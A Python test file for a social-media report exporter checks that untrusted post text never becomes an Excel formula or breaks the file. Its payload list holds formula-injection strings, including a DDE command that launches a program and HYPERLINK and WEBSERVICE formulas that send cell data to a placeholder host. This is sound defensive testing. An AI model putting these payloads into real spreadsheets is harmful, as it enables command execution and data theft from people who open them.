"""Words from networks stay words: never a formula, never a broken file, never silently changed."""

from decimal import Decimal
from io import BytesIO
from zipfile import ZipFile

import pytest
from defusedxml import ElementTree
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from smmstrategy.reports.document import Day, Field, Figure, Grid, Quote, Sheet, Shown
from smmstrategy.reports.excel import draw
from smmstrategy.reports.text import safe_text
from tests.reports import example
from tests.reports.reading import all_converted, cells, formula_cells

COMMANDS = (
    "cmd|' /C calc'!A0", 'HYPERLINK("http://x/?"&A1,"click")', "1+1", 'WEBSERVICE("http://x")', "SUM(A1:A9)", "IMPORTXML(1)",
    "DDE(1;2;3)", "A1", "-1+1", "@SUM(1)", "{1+1}", "1/0",
)  # fmt: skip
PAYLOADS = tuple(f"{start}{command}" for start in ("=", "+", "-", "@", "\t=") for command in COMMANDS)
ORDINARY, QUICK = 10**9, 1


def hostile_document(texts):
    """The texts in every place where text from outside can stand."""
    fields = (
        Field("Автор"),
        Field("Текст", width=50),
        Field("Ссылка", link=True),
        Field("Лайки", Shown.INTEGER, name="posts_likes"),
    )
    posts = Grid(fields, tuple((text, Quote(text), Quote(text, "https://vk.com/1"), 7) for text in texts))
    mixed = Grid(
        (Field("Что"), Field(texts[0]), Field("x")),
        tuple((text, ("Пост: ", Quote(text)), Figure("n", 1)) for text in texts),
        title=texts[0],
    )
    sheets = (Sheet("Сводка", (mixed,), intro=tuple((Quote(text),) for text in texts)), Sheet(texts[-1], (posts,)))
    return example.document(example.passport(1), *sheets)


def test_sixty_payloads():
    assert len(PAYLOADS) == 60


@pytest.mark.parametrize("quick_from", [ORDINARY, QUICK])
def test_no_text_becomes_a_formula_for_openpyxl(quick_from):
    content = draw(hostile_document(PAYLOADS), quick_from=quick_from).content
    assert formula_cells(content) == []
    shown = list(cells(content).values())
    assert [payload for payload in PAYLOADS if shown.count(payload) < 5] == []


@pytest.mark.slow
def test_no_text_becomes_a_formula_for_libreoffice(libreoffice, tmp_path):
    drawn = [draw(hostile_document(PAYLOADS), quick_from=quick_from).content for quick_from in (ORDINARY, QUICK)]
    for saved in all_converted(libreoffice, tmp_path, drawn):
        assert formula_cells(saved) == []
        shown = list(cells(saved).values())
        assert [payload for payload in PAYLOADS if payload not in shown] == []


characters = st.characters(exclude_categories=()) | st.sampled_from("\x00\x0b\x1b\ufffe\uffff\ud800\udfff\u202e\u200d🦊<&>\"'_x")
texts = st.text(characters, min_size=1, max_size=60) | st.sampled_from(
    ["_x0041_", "<r><t>a</t></r>", "👩‍👩‍👧", " a ", "\n", "]]>", "&amp;"]
)


@settings(max_examples=50, derandomize=True, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.lists(texts, min_size=1, max_size=20), st.sampled_from([ORDINARY, QUICK]))
def test_any_text_survives(written, quick_from):
    content = draw(hostile_document(written), quick_from=quick_from).content
    with ZipFile(BytesIO(content)) as archive:
        assert archive.testzip() is None
        for name in archive.namelist():
            ElementTree.fromstring(archive.read(name))
    assert formula_cells(content) == []
    drawn = [str(value) for value in cells(content).values()]
    shown = {*drawn, *(text.removesuffix("\u200b") for text in drawn)}
    assert [text for text in map(safe_text, written) if text and text.strip("\n\t ") and text not in shown] == []


@settings(max_examples=20, derandomize=True, deadline=None)
@given(
    st.lists(
        st.tuples(st.dates(), st.decimals(-(10**15), 10**15, places=6) | st.none(), st.integers(-(10**15), 10**15)), min_size=1
    )
)
def test_both_ways_of_writing_give_the_same_cells(rows):
    fields = (Field("День"), Field("ER", Shown.PERCENT), Field("Лайки", Shown.INTEGER), Field("Длина", Shown.DURATION))
    grid = Grid(fields, tuple((Day(day), ratio, likes, abs(likes) % 10**9) for day, ratio, likes in rows))
    document = example.document(example.passport(1), Sheet("Дни", (grid,)))
    ordinary, quick = (draw(document, quick_from=quick_from) for quick_from in (ORDINARY, QUICK))
    assert cells(ordinary.content) == cells(quick.content)
    assert (ordinary.shown, ordinary.columns) == (quick.shown, quick.columns)


def test_both_ways_of_writing_give_the_same_posts():
    ordinary, quick = (draw(example.full(300), quick_from=quick_from).content for quick_from in (ORDINARY, QUICK))
    assert cells(ordinary) == cells(quick)
    assert cells(ordinary)["Посты!G6"] == float(Decimal("0.0037"))
